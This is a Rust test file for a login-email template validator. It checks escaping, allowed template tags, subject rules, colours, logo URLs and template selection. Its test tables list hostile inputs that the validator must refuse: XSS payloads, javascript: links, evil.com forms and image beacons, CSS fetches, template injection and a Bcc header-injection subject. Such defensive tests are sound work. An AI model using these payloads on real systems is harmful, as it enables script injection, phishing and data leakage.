//! Which templates are taken, and what comes of them.

use super::*;

fn custom(html: &str) -> Custom {
    Custom {
        kind: Kind::Login,
        locale: Locale::English,
        subject: "Log in to {{ organization_name }}".to_owned(),
        text: "Hello {{ member_name }}\n{{ link }}\n".to_owned(),
        html: html.to_owned(),
    }
}

const PLAIN: &str = r#"<p>Hello {{ member_name }}</p><a href="{{ link }}">Log in</a>"#;

fn values() -> Values {
    Values::default()
        .with("organization_name", "Acme")
        .with("member_name", "Ada")
        .with("link", "https://acme.com/?a=1&b=2")
}

#[test]
fn a_template_of_words_and_a_link_is_taken_and_filled_in() {
    let it = custom(PLAIN);
    it.check().unwrap();
    let rendered = it.rendered(&values()).unwrap();
    assert_eq!(rendered.subject, "Log in to Acme");
    assert_eq!(rendered.text, "Hello Ada\nhttps://acme.com/?a=1&b=2");
    assert!(
        rendered.html.contains("Hello Ada") && rendered.html.contains("a=1&amp;b=2"),
        "{}",
        rendered.html
    );
}

#[test]
fn a_whole_page_with_its_styles_is_taken() {
    let page = r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{{ organization_name }}</title>
        <style>@media (prefers-color-scheme: dark) { p { color: #fff } }</style></head>
        <body style="margin:0"><table width="100%"><tr><td align="center">
        <img src="https://acme.com/logo.png" alt="Acme" width="120"><p>{% if member_name %}Hello {{ member_name }}{% else %}Hello{% endif %}</p>
        <a href="{{ link }}" style="color:#fff">Log in</a> <a href="mailto:help@acme.com">Help</a></td></tr></table></body></html>"#;
    custom(page).check().unwrap();
}

#[test]
fn names_are_never_read_as_markup_or_as_a_template() {
    let hostile = r#"<script>alert(1)</script>"onx='{{ link }}{% if %}{{7*7}}"#;
    let rendered = custom(PLAIN).rendered(&values().with("member_name", hostile)).unwrap();
    assert!(!rendered.html.contains("<script") && !rendered.html.contains("49"), "{}", rendered.html);
    assert_eq!(
        rendered.html.matches("https:").count(),
        1,
        "the braces of a name stay braces: {}",
        rendered.html
    );
    assert!(rendered.text.contains("{{ link }}") && !rendered.text.contains("49"), "{}", rendered.text);
}

#[test]
fn markup_that_acts_fetches_or_hides_is_refused_by_name() {
    for (html, part) in [
        ("<script>alert(1)</script>", "<script>"),
        ("<img src=\"https://a.b/x.png\" onerror=\"alert(1)\">", "onerror"),
        ("<form action=\"https://evil.com\"></form>", "<form>"),
        ("<input name=\"password\">", "<input>"),
        ("<iframe src=\"https://evil.com\"></iframe>", "<iframe>"),
        ("<svg><a href=\"https://a.b\"></a></svg>", "<svg>"),
        ("<object data=\"x\"></object>", "<object>"),
        ("<base href=\"https://evil.com/\">", "<base>"),
        ("<link rel=\"stylesheet\" href=\"https://evil.com/x.css\">", "<link>"),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.com\">", "http-equiv"),
        ("<meta name=\"referrer\" content=\"unsafe-url\">", "referrer"),
        ("<a href=\"javascript:alert(1)\">x</a>", "link"),
        ("<a href=\" java\nscript:alert(1)\">x</a>", "link"),
        ("<a href=\"data:text/html,x\">x</a>", "link"),
        ("<a href=\"http://acme.com\">x</a>", "link"),
        ("<a href=\"https://evil.com/?{{ link }}\">x</a>", "link"),
        ("<img src=\"https://evil.com/?{{ member_name }}\">", "picture"),
        ("<img src=\"{{ link }}\">", "picture"),
        ("<img src=\"http://evil.com/x.png\">", "picture"),
        ("<img srcset=\"https://evil.com/x.png 2x\">", "srcset"),
        ("<p style=\"background:url(https://evil.com)\">x</p>", "url("),
        ("<p style=\"background:u\\72l(x)\">x</p>", "\\"),
        ("<p style=\"color:{{ member_name }}\">x</p>", "filled in"),
        ("<p style=\"background:u/**/rl(x)\">x</p>", "comments"),
        ("<style>@import 'https://evil.com/x.css';</style>", "@import"),
        ("<style>p { content: \"{{ link }}\" }</style>", "filled in"),
        ("<style>p { color: red }", "<style>"),
        ("<p title=\"{{ member_name }}\">x</p>", "title"),
        ("<p {{ member_name }}>x</p>", "attribute"),
        ("<{{ member_name }}>", "not allowed"),
        ("<!-- {{ link }} -->", "comments"),
        ("<!--[if mso]><b><![endif]-->", "comments"),
        ("<SCRIPT>1</SCRIPT>", "<script>"),
        ("<scr\0ipt>", "U+0000"),
    ] {
        let refused = custom(&format!("{PLAIN}{html}")).check().expect_err(html);
        assert!(refused.starts_with("html: ") && refused.contains(part), "{html}: {refused}");
    }
}

#[test]
fn of_the_template_language_only_names_and_conditions_are_taken() {
    for tag in [
        "{{ link|safe }}",
        "{{ 'x' * 100000000 }}",
        "{{ member_name.x }}",
        "{{ secret }}",
        "{{ code }}",
        "{% autoescape false %}{% endautoescape %}",
        "{% for a in member_name %}{% endfor %}",
        "{% set link = 'x' %}",
        "{% include 'x' %}",
        "{% raw %}{% endraw %}",
        "{% if member_name == 'x' %}{% endif %}",
        "{%- if member_name %}{% endif %}",
        "{# x #}",
        "{{ link",
        "{% if member_name %}",
        "{% endif %}",
    ] {
        let refused = custom(&format!("{PLAIN}{tag}")).check();
        assert!(refused.is_err(), "{tag}");
    }
}

#[test]
fn a_subject_is_one_line_without_secrets_and_marks() {
    for subject in [
        "",
        "a\r\nBcc: eve@evil.com",
        "a\nb",
        "a\tb",
        "a\u{7}",
        "{{ link }}",
        "{{code}}",
        "pay\u{202e}gpj.exe",
        "\u{200b}",
        "{% if member_name %}x{% endif %}",
    ] {
        let it = Custom { subject: subject.to_owned(), ..custom(PLAIN) };
        assert!(it.check().unwrap_err().starts_with("subject: "), "{subject:?}");
    }
    assert!(Custom { subject: "x".repeat(201), ..custom(PLAIN) }.check().is_err());
    assert!(Custom { subject: "x".repeat(200), ..custom(PLAIN) }.check().is_ok());
}

#[test]
fn what_the_mail_is_for_is_there_whatever_else_is_not() {
    for html in [
        "<p>no link</p>",
        "{% if member_name %}<a href=\"{{ link }}\">x</a>{% endif %}",
        "{% if not member_name %}<a href=\"{{ link }}\">x</a>{% endif %}",
    ] {
        assert!(custom(html).check().unwrap_err().contains("{{ link }} has to be there"), "{html}");
    }
    let it = Custom { text: "no link".to_owned(), ..custom(PLAIN) };
    assert!(it.check().unwrap_err().starts_with("text: {{ link }}"));
}

#[test]
fn bodies_are_bounded() {
    let long = "x".repeat(64 * 1024);
    assert!(custom(&format!("{PLAIN}{long}")).check().unwrap_err().starts_with("html: 1 to 65536 bytes"));
    assert!(Custom { text: format!("{{{{ link }}}}{long}"), ..custom(PLAIN) }.check().is_err());
}

#[test]
fn colours_and_logos_are_what_they_say() {
    for wrong in ["red", "#fff", "#12345g", "1f4fd8", "#1f4fd8;x", "#+f4fd8"] {
        assert!(wrong.parse::<Color>().is_err(), "{wrong}");
    }
    assert_eq!(
        ["#1f4fd8", "#000000", "#ffffff", "#ffd400"].map(|it| it.parse::<Color>().unwrap().ink_upon()),
        ["#ffffff", "#ffffff", "#111418", "#111418"]
    );
    for wrong in
        ["http://a.b/x.png", "javascript:1", "data:image/png;base64,x", "https://u:p@a.b/x", "/x.png", ""]
    {
        assert!(wrong.parse::<LogoUrl>().is_err(), "{wrong}");
    }
    let quoted = "https://a.b/\"onload=x".parse::<LogoUrl>().unwrap();
    assert!(!quoted.to_string().contains('"'));
}

#[test]
fn prebuilt_or_custom_and_never_both() {
    let both = r##"{"type":"prebuilt","accent_color":"#000000","subject":"x"}"##;
    assert!(serde_json::from_str::<Content>(both).is_err());
    let looks = r##"{"type":"prebuilt","accent_color":"#000000"}"##;
    assert!(serde_json::from_str::<Content>(looks).is_ok());
}

#[test]
fn the_organizations_comes_before_the_projects_and_words_before_looks() {
    let words = |locale| Content::Custom(Custom { locale, ..custom(PLAIN) });
    let looks = Content::Prebuilt(Brand::default());
    let all: Vec<Stored> = [
        (Scope::Organization, words(Locale::French)),
        (Scope::Organization, words(Locale::English)),
        (Scope::Organization, looks.clone()),
        (Scope::Project, words(Locale::French)),
        (Scope::Project, words(Locale::English)),
        (Scope::Project, looks),
    ]
    .into_iter()
    .enumerate()
    .map(|(at, (scope, content))| {
        let template_id = format!("t{at}").parse().unwrap();
        Stored { scope, template: Template { template_id, is_default: true, content } }
    })
    .collect();
    for gone in 0..all.len() {
        let best = chosen(&all[gone..], Kind::Login, Locale::French).unwrap();
        assert_eq!(best.template_id.as_str(), format!("t{gone}"));
    }
    assert!(chosen(&all[..2], Kind::Signup, Locale::French).is_none(), "of another kind");
    assert!(chosen(&all[..1], Kind::Login, Locale::Czech).is_none(), "in another language");
}
